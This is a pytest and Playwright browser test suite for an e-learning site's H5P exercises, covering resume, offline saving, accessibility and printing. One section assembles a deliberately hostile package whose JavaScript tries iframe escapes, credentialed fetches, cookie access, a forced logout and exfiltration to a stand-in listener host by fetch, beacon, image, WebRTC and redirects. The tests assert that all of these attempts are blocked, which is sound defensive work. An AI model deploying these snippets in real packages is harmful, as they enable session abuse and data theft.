"""Interactive exercises behind glass: played, kept, resumed; and a package that tries everything gets nowhere."""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Iterator
from typing import ClassVar

import pytest
from playwright.sync_api import expect

from tests.browser.demo_site import DemoSite
from tests.browser.looks import nothing_sticks_out
from tests.browser.pages import WIDTHS
from tests.factories.h5p import library_json, manifest, package

pytestmark = pytest.mark.browser
EXERCISE = "/oefening/i1/"
FRAME = "iframe[data-src]"


@pytest.fixture
def begin(open_page):
    """A function that opens an exercise and begins it, as a role."""

    def begun(address=EXERCISE, *, role="learner", width=1280):
        page = open_page(address, role=role, width=width)
        page.click("main form button")
        page.wait_for_url("**/oefening-doen/**")
        page.frame_locator(FRAME).locator(".h5p-container > *").first.wait_for()
        return page

    return begun


def answer(page, question: int, choice: int) -> None:
    """Answer by keyboard: the frame grows with each answer, and what the mouse aims at moves away."""
    group = page.frame_locator(FRAME).locator("fieldset").nth(question)
    group.locator("input").nth(choice).press("Space")
    group.locator("button").press("Enter")


def saved(page) -> None:
    page.locator("[data-status][data-state=saved]").wait_for()


def chosen(page) -> list[int]:
    frame = page.frame_locator(FRAME)
    return [
        number
        for number in range(frame.locator("fieldset").count())
        if frame.locator("fieldset").nth(number).locator("input:checked").count()
    ]


def test_an_exercise_is_played_resumed_and_finished_with_a_score(begin, open_page):
    page = begin()
    answer(page, 0, 0)
    saved(page)
    page.reload()
    page.frame_locator(FRAME).locator("fieldset").first.wait_for()
    assert chosen(page) == [0]
    answer(page, 1, 1)
    answer(page, 2, 1)
    page.locator("[data-finished]").wait_for()
    expect(page.locator("[data-finished]")).to_contain_text("66,7%")
    page.wait_for_function("document.querySelector('iframe[data-src]').height > 200")
    frame = page.frame_locator(FRAME).locator("body")
    page.wait_for_timeout(500)
    assert frame.evaluate("body => body.scrollHeight - document.documentElement.clientHeight") <= 1
    shown = open_page(EXERCISE, role="learner")
    expect(shown.locator("main")).to_contain_text("beste score")


def test_play_answer_lose_the_connection_close_the_tab_and_nothing_older_than_200_ms_is_lost(begin, contexts):
    page = begin(role="coach")
    context = contexts("coach")
    context.set_offline(True)
    answer(page, 0, 0)
    answer(page, 1, 0)
    page.wait_for_timeout(200)
    address = page.url
    page.close()
    context.set_offline(False)
    again = context.new_page()
    again.goto(address)
    again.frame_locator(FRAME).locator("fieldset").first.wait_for()
    assert chosen(again) == [0, 1]
    again.close()


def test_without_a_connection_it_says_that_it_is_kept_on_the_device(begin, contexts):
    page = begin(role="coach")
    contexts("coach").set_offline(True)
    answer(page, 2, 0)
    page.locator("[data-status][data-state=device]").wait_for()
    contexts("coach").set_offline(False)


def test_the_keyboard_goes_into_the_frame_does_the_exercise_and_comes_out(begin):
    page = begin(role="reviewer")
    page.get_by_role("link", name="Wie zegt dit?").last.focus()
    for key in ("Tab", "Space", "Tab", "Enter"):  # to the first answers, choose, to the button, press
        page.keyboard.press(key)
    saved(page)
    expect(page.frame_locator(FRAME).locator("fieldset").first.get_by_role("status")).not_to_be_empty()
    for _ in range(4):  # two questions with a button each
        page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Volledig scherm")).to_be_focused()


def test_the_frame_grows_with_what_is_in_it_and_asks_little(begin):
    asked: list[str] = []
    page = begin(role="reviewer")
    page.on("request", lambda request: asked.append(request.url))
    page.reload()
    page.frame_locator(FRAME).locator("fieldset").first.wait_for()
    page.wait_for_function("document.querySelector('iframe[data-src]').height > 430")
    assert len(asked) <= 35


def test_without_scripts_and_on_paper_the_text_stands_there(demo_site, browser, contexts):
    state = contexts("learner").storage_state()
    plain = browser.new_context(base_url=demo_site.url, java_script_enabled=False, storage_state=state)
    page = plain.new_page()
    page.goto(EXERCISE)
    page.click("main form button")
    expect(page.locator("main")).to_contain_text("Er liggen vijf stappen")
    expect(page.locator(FRAME)).to_be_hidden()
    plain.close()


def test_on_paper_its_text_stands_in_the_place_of_the_frame(begin):
    page = begin(role="trainer")
    page.emulate_media(media="print")
    expect(page.locator(".wks-exercise__print")).to_be_visible()
    expect(page.locator(".wks-exercise__print")).to_contain_text("Er liggen vijf stappen")
    expect(page.locator(FRAME)).to_be_hidden()
    page.emulate_media(media="screen")
    expect(page.locator(".wks-exercise__print")).to_be_hidden()


@pytest.mark.parametrize("width", WIDTHS)
def test_the_page_of_an_exercise_and_the_one_that_plays_it_have_nothing_that_axe_finds(
    begin, open_page, axe_violations, width
):
    before = open_page(EXERCISE, role="learner", width=width)
    assert axe_violations(before) == []
    playing = begin(width=width)
    for page in (before, playing):
        assert axe_violations(page) == []
        nothing_sticks_out(page)
    assert axe_violations(playing.frames[1], ".h5p-content") == []


# --- A content type that breaks -----------------------------------------------------------------


BREAKS = {
    "it cannot be read": "var Test = {",
    "it throws when it begins": "var Test = {}; Test.Story = function () { throw new Error('stuk'); };",
    "it is not there": "var Something = {};",
}


@pytest.mark.parametrize("how", BREAKS)
def test_a_content_type_that_breaks_says_so_and_gives_the_text(demo_site, contexts, how):
    code = f"I{60 + list(BREAKS).index(how)}"
    name = f"Test.Broken{code}"
    file = package(**{**as_type(name), f"{name}-1.0/story.js": BREAKS[how]})
    load(demo_site, code, file.getvalue())
    page = contexts("trainer").new_page()
    page.goto(f"/oefening/{code.lower()}/")
    page.click("main form button")
    page.locator("[data-broken]").wait_for(timeout=20_000)
    expect(page.locator("[data-broken]")).to_contain_text("Wat hier stond")
    page.close()


def as_type(name: str) -> dict[str, str | None]:
    """The files of a package whose content type has another name: what is installed stays as it is."""
    script = {"preloadedJs": [{"path": "story.js"}], "preloadedCss": []}
    return {
        "h5p.json": manifest(main=name),
        "Test.Story-1.0/library.json": None,
        "Test.Story-1.0/story.css": None,
        "Test.Story-1.0/story.js": None,
        f"{name}-1.0/library.json": library_json(name, **script),
    }


def load(demo_site: DemoSite, code: str, content: bytes) -> None:
    """An exercise on line with this file, in the lesson of the demo that has one."""
    file = demo_site.keep(f"{code}.h5p", content)
    script = (
        "from django.utils import timezone; from pathlib import Path; from assessments.api import interactive as i;"
        f"i.load_exercise(code={code!r}, title='Oefening {code}', text='Wat hier stond', minutes=1,"
        f" package=Path({str(file)!r}).read_bytes(), now=timezone.now());"
        "import time, uuid; from courses.models import LessonPart;"
        "from courses.selectors.curriculum import LOOK_AGAIN_AFTER, announce_change;"
        "lesson = LessonPart.objects.get(reference='I1').lesson;"
        f"LessonPart.objects.update_or_create(reference={code!r}, defaults=dict(lesson=lesson, key=uuid.uuid4(),"
        f" kind='h5p', title={code!r}, is_required=False, position=99));"
        "announce_change(); time.sleep(LOOK_AGAIN_AFTER)"
    )
    demo_site.manage("shell", "-v0", "-c", script)


# --- A package that tries everything ---------------------------------------------------------------

ATTEMPTS = {
    "top navigation": "window.top.location = '/weg/'; if (window.top.location.href) return true;",
    "parent document": "return Boolean(window.parent.document.body);",
    "cookies": "return document.cookie !== '' || Boolean(document.cookie = 'a=b') && document.cookie.includes('a=b');",
    "storage of the site": "delete window.localStorage; return window.localStorage.length >= 0;",
    "a database of the browser": "return await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes(true); r.onerror = () => no(r.error); });",
    "a popup": "return window.open('/', '_blank') !== null;",
    "a form": "const f = document.createElement('form'); f.action = SITE + '/account/logout/'; f.method = 'post'; document.body.append(f); f.submit(); await new Promise((done) => setTimeout(done, 400)); return false;",
    "eval": "return eval('1 + 1') === 2;",
    "new Function": "return new Function('return 1')() === 1;",
    "an inline script": "const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.head.append(s); return window.ran === true;",
    "a script from elsewhere": "return await new Promise((yes, no) => { const s = document.createElement('script'); s.src = ELSEWHERE + '/x.js'; s.onload = () => yes(true); s.onerror = no; document.head.append(s); });",
    "fetching as who is signed in": "const r = await fetch(SITE + '/mijn-leerpad/', {credentials: 'include'}); return r.ok;",
    "a service worker": "await navigator.serviceWorker.register('/h5p/lib/sw.js'); return true;",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['1']))); return await new Promise((yes) => setTimeout(() => yes(false), 300));",
    "sending away by fetch": "await fetch(ELSEWHERE + '/weg', {mode: 'no-cors'}); return true;",
    "sending away by a picture": "return await new Promise((yes, no) => { const i = new Image(); i.onload = () => yes(true); i.onerror = no; i.src = ELSEWHERE + '/weg.png'; });",
    "sending away by a beacon": "navigator.sendBeacon(ELSEWHERE + '/weg', 'x'); await new Promise((done) => setTimeout(done, 200)); return false;",
    "sending away by a call": "const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]}); call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer()); return true;",
    "a call out of a frame of its own": "const f = document.createElement('iframe'); document.body.append(f); return Boolean(new f.contentWindow.RTCPeerConnection());",
    "a call out of a frame with its own code": "const f = document.createElement('iframe'); f.srcdoc = '<script src=\"' + HERE + '\"></' + 'script>'; document.body.append(f); return await new Promise((yes) => { addEventListener('message', (said) => { if ('calls' in said.data) yes(said.data.calls); }); setTimeout(() => yes(true), 5000); });",
    **{
        f"a hint to the browser: {hint}": f"const l = document.createElement('link'); l.rel = {hint.partition(' ')[0]!r}; l.as = {hint.partition(' ')[2]!r}; l.href = ELSEWHERE + '/hint'; document.head.append(l); await new Promise((done) => setTimeout(done, 300)); return false;"
        for hint in (
            "preconnect",
            "dns-prefetch",
            "prefetch",
            "modulepreload",
            "preload script",
            "preload image",
            "preload fetch",
            "icon",
        )
    },
    "a ping of a link": "const a = document.createElement('a'); a.href = '#'; a.ping = ELSEWHERE + '/weg'; document.body.append(a); a.click(); await new Promise((done) => setTimeout(done, 200)); return false;",
    "a frame of the site": "return await new Promise((yes) => { const f = document.createElement('iframe'); f.src = SITE + '/'; f.onload = () => { try { yes(Boolean(f.contentDocument.body.innerText)); } catch { yes(false); } }; document.body.append(f); setTimeout(() => yes(false), 800); });",
}


HOSTILE = """
if (!window.H5P) parent.postMessage({calls: typeof RTCPeerConnection !== "undefined"}, "*");
var Test = {}, HERE = document.currentScript.src, H5P = window.H5P;
Test.Story = function () { H5P.EventDispatcher.call(this); };
Test.Story.prototype = Object.create(H5P.EventDispatcher.prototype);
Test.Story.prototype.attach = async function ($place) {
  const SITE = SITE_HERE, ELSEWHERE = ELSEWHERE_HERE, outcome = {};
  const tries = { TRIES_HERE };
  for (const [name, attempt] of Object.entries(tries)) {
    try { outcome[name] = (await attempt()) === true ? "worked" : "blocked"; } catch (error) { outcome[name] = "blocked"; }
  }
  const said = document.createElement("pre");
  said.id = "outcome";
  said.textContent = JSON.stringify(outcome);
  $place.get(0).append(said);
};
"""


def hostile(site: str, elsewhere: str) -> bytes:
    """A package whose code tries each of these, and says by name what worked."""
    tries = ",".join(f"{json.dumps(name)}: async () => {{ {code} }}" for name, code in ATTEMPTS.items())
    script = HOSTILE.replace("SITE_HERE", json.dumps(site)).replace("ELSEWHERE_HERE", json.dumps(elsewhere))
    return package(
        **{
            "h5p.json": manifest(title="Een vijandig pakket"),
            "Test.Story-1.0/library.json": library_json(preloadedCss=[]),
            "Test.Story-1.0/story.js": script.replace("TRIES_HERE", tries),
            "Test.Story-1.0/gif.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>document.title='ran'</script></svg>",
            "content/blad.txt": "<script>document.title = 'ran'</script>",
        }
    ).getvalue()


class Listener(http.server.BaseHTTPRequestHandler):
    """Another site, which hears everything that reaches it."""

    heard: ClassVar[list[str]] = []

    def setup(self) -> None:
        """Note a connection, also when nothing is asked over it."""
        self.heard.append("a connection")
        super().setup()

    def do_GET(self) -> None:
        """Note it, and answer."""
        self.heard.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - the same

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name that the parent has
        """Say nothing."""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[str]:
    """The address of another site."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def trap(demo_site: DemoSite, elsewhere: str) -> str:
    """The address of an exercise with a hostile file."""
    load(demo_site, "I9", hostile(demo_site.url, elsewhere))
    return "/oefening/i9/"


@pytest.fixture
def outcome(trap, contexts):
    """What each attempt of the hostile package came to, and the page around it."""
    page = contexts("trainer").new_page()
    page.goto(trap)
    page.click("main form button")
    page.wait_for_url("**/oefening-doen/**")
    said = page.frame_locator(FRAME).locator("#outcome")
    said.wait_for(timeout=20_000)
    yield json.loads(said.inner_text()), page
    page.close()


def test_each_attempt_of_a_hostile_package_is_blocked(outcome):
    found, page = outcome
    assert found == dict.fromkeys(ATTEMPTS, "blocked")
    assert Listener.heard == []
    expect(page).to_have_url(re.compile("/oefening-doen/"))
    assert page.context.pages == [page]
    page.goto("/mijn-leerpad/")
    expect(page).not_to_have_url(re.compile("/account/login/"))


def test_files_of_a_package_opened_directly_do_nothing(outcome):
    _, page = outcome
    frame = page.frames[1]
    addresses = frame.evaluate("[...document.scripts].map((each) => each.src)")
    base = next(address for address in addresses if address.endswith("alles.js")).removesuffix("alles.js")
    content = frame.evaluate("JSON.parse(document.getElementById('h5p-integration').textContent).url")
    for address in (f"{base}alles.js", f"{base}Test.Story-1.0/gif.svg", f"{content}/blad.txt", frame.url):
        answer = page.goto(address)
        assert answer.status in {200, 404}
        assert "sandbox" in answer.headers["content-security-policy"]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert page.title() != "ran"


LEADS_AWAY = """
var Test = {};
Test.Away = function () { H5P.EventDispatcher.call(this); };
Test.Away.prototype = Object.create(H5P.EventDispatcher.prototype);
Test.Away.prototype.attach = function ($place) {
  $place.append("<p>Ik ga weg</p>");
  setTimeout(function () { GOES_HERE }, 200);
};
"""
GOES = {
    "by its own hand": "window.location = ELSEWHERE_HERE + '/weg?wie=' + document.title;",
    "by a page that loads anew": "$place.append('<meta http-equiv=refresh content=\"0;url=' + ELSEWHERE_HERE + '/weg\">');",
    "by a link": "var a = document.createElement('a'); a.href = ELSEWHERE_HERE + '/weg'; $place.append(a); a.click();",
}


@pytest.mark.parametrize("how", GOES)
def test_a_package_sends_nothing_away_by_going_elsewhere_itself(demo_site, elsewhere, contexts, how):
    number = list(GOES).index(how)
    name, code = f"Test.Away{number}", f"I{86 + number}"
    script = LEADS_AWAY.replace("Test.Away", name).replace("GOES_HERE", GOES[how])
    script = script.replace("ELSEWHERE_HERE", json.dumps(elsewhere))
    load(demo_site, code, package(**{**as_type(name), f"{name}-1.0/story.js": script}).getvalue())
    page = contexts("trainer").new_page()
    page.goto(f"/oefening/{code.lower()}/")
    page.click("main form button")
    with page.expect_console_message(lambda said: "frame-src" in said.text):
        page.wait_for_url("**/oefening-doen/**")
    assert Listener.heard == []
    page.close()
